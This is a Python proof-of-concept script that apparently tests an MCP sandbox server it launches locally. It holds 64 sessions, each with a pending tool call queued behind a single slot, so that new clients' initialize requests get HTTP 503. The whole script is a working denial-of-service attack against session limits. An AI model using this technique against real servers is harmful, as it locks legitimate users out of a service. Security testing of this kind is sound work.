#!/usr/bin/env python3
"""atk39 F3 variant: 64 sessions of one client, each with one tools/call waiting for a slot
(max_concurrent = 1, one `sleep` running) -- 64 connections only, far under the connection bound --
make every session "busy": a new client's initialize gets 503 until limits.timeout, renewable."""
import os, sys, json, socket, subprocess, time, http.client
TOKEN = open("/tmp/atk39/tok").read().strip(); PORT = 18767
srv = subprocess.Popen(["/tmp/atk39/mcpsandbox", "serve", "--policy", "/tmp/atk39/http1.toml", "--http", "127.0.0.1:%d" % PORT,
                        "--token-file", "/tmp/atk39/tok"], env={"HOME": "/tmp/atk39/home", "PATH": "/usr/bin:/bin"},
                       stderr=open("/tmp/atk39/f3b.serve.log", "wb"))
time.sleep(1.5)
H = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream", "Authorization": "Bearer " + TOKEN}
def init():
    c = http.client.HTTPConnection("127.0.0.1", PORT, timeout=10)
    c.request("POST", "/mcp", json.dumps({"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "x", "version": "1"}}}), H)
    r = c.getresponse(); body = r.read(); sid = r.getheader("Mcp-Session-Id")
    if r.status != 200: return None, r.status, body.decode(errors="replace").strip()[:200]
    c.request("POST", "/mcp", json.dumps({"jsonrpc": "2.0", "method": "notifications/initialized"}), dict(H, **{"Mcp-Session-Id": sid}))
    r = c.getresponse(); r.read()
    return sid, 200, ""
def raw_call(sid, i, script):
    body = json.dumps({"jsonrpc": "2.0", "id": i, "method": "tools/call", "params": {"name": "run_shell_sandbox", "arguments": {"script": script}}}).encode()
    s = socket.create_connection(("127.0.0.1", PORT))
    s.sendall(("POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\n"
               "Authorization: Bearer %s\r\nMcp-Session-Id: %s\r\nContent-Length: %d\r\n\r\n" % (TOKEN, sid, len(body))).encode() + body)
    return s
held = []
for i in range(64):
    sid, st, why = init()
    if not sid: print("attacker session", i, "refused", st, why); break
    held.append(raw_call(sid, 1, "sleep 35" if i == 0 else "echo waiter"))
    if i == 0: time.sleep(0.5)
time.sleep(1)
print("attacker: %d sessions, one call each (1 running, the rest waiting for the slot), %d connections" % (len(held), len(held)))
for k in range(3):
    t = time.time(); sid, st, why = init()
    print("new client's initialize #%d: HTTP %d in %.2fs %s" % (k, st, time.time() - t, why))
    time.sleep(2)
for s in held: s.close()
srv.terminate(); srv.wait()
